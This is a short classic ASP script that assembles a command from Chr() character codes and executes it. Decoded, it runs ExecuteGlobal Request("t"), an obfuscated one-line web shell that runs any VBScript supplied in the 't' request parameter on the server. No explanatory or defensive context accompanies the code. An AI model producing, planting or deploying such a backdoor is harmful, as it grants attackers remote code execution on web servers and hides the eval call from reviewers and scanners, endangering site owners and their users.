<%
Dim s
s = Chr(69)&Chr(120)&Chr(101)&Chr(99)&Chr(117)&Chr(116)&Chr(101)&Chr(71)&Chr(108)&Chr(111)&Chr(98)&Chr(97)&Chr(108) _
    &Chr(32)&Chr(82)&Chr(101)&Chr(113)&Chr(117)&Chr(101)&Chr(115)&Chr(116)&Chr(40)&Chr(34)&Chr(116)&Chr(34)&Chr(41)
Execute s
%>
